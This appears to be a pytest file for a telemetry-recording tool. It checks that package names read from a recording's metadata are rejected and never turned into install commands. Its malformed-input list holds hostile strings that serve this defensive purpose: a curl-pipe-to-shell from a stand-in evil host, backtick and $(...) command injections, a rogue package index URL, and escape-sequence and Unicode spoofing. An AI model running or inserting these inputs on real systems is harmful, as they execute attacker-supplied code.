"""What a recording says of packages: somebody else wrote it, and none of it becomes a command of this machine."""

import random
import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from telenano.analysis import plugins
from telenano.wire.errors import ConfigError, RecordingError
from telenano.wire.extras import OWN_PACKAGES, how_to_add_package

LAW = {"controller": {"law": "evil_law"}}
DIGEST = f"sha256:{'0a' * 32}"


def require(text: str) -> str:
    """Return the sentence with which a recording is refused whose law comes from a package of this description."""
    recording: Any = SimpleNamespace(path=Path("a.mcap"), metadata={"plugins": {"laws.evil_law": text}})
    with pytest.raises((ConfigError, RecordingError)) as caught:
        plugins.require_installed(plugins.recorded_plugins(recording, LAW))
    return str(caught.value)


MALFORMED = (
    "x;curl${IFS}evil.example|sh;# 1.0",
    "--index-url=http://evil.example 1.0",
    "git+https://evil.example/x 1.0",
    "../x 1.0",
    "x`id` 1.0",
    "x 1.0;id",
    "x $(id)",
    "x\u212a 1.0",
    "-x 1.0",
    "x- 1.0",
    "x\x1b[2J 1.0",
    f"{'x' * 250} 1.0",
    f"x 1.{'0' * 250}",
    "x \u0661.0",
)


@pytest.mark.parametrize("text", [*(f"{each} {DIGEST}" for each in MALFORMED), "x", "x 1.0", f"x 1.0 {DIGEST} more",
                                  "x 1.0 md5:0", f"x 1.0 {DIGEST};id"])  # fmt: skip
def test_what_is_no_package_is_a_sentence_that_repeats_nothing_of_it(text: str) -> None:
    said = require(text)
    assert said.startswith("a.mcap: metadata plugins: laws.evil_law must have the name, the version and the digest")
    assert not any(word in said for word in text.split() if len(word) > 5)


def test_no_command_is_recommended_for_what_is_not_ours() -> None:
    said = require(f"some-laws 1.0 {DIGEST}")
    assert said == (
        "the session used the law evil_law of some-laws 1.0, which is not installed here: "
        "ask the author of the recording for that package"
    )
    assert "pip" not in said
    assert how_to_add_package(OWN_PACKAGES[0]) in require(f"{OWN_PACKAGES[0]} 0.1.0 {DIGEST}")


def test_an_entry_whose_package_has_another_name_today_is_found_by_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plugins, "installed", lambda kind: {})
    facts = {"package": "telenano-haptic-devices", "version": "0.1.0", "digest": DIGEST}
    with pytest.raises(ConfigError, match=re.escape(how_to_add_package("telenano-devices"))):
        plugins.require_installed({"devices.haply": facts})


def test_nothing_at_random_is_obeyed() -> None:
    chosen = random.Random(72)
    letters = [chr(code) for code in range(33, 127)] + list("\x1b\u202e\u00e9\u212a`$;|&<>\"'\\")
    refused = 0
    for _ in range(2000):
        name, version = ("".join(chosen.choices(letters, k=chosen.randint(1, 12))) for _ in range(2))
        said = require(f"{name} {version} {DIGEST}")
        refused += said.startswith("a.mcap: ")
        assert "pip install" not in said
        assert said.startswith("a.mcap: ") or (name + version).isascii()
    # a name and a version drawn like this are seldom those of a package
    assert refused > 1900
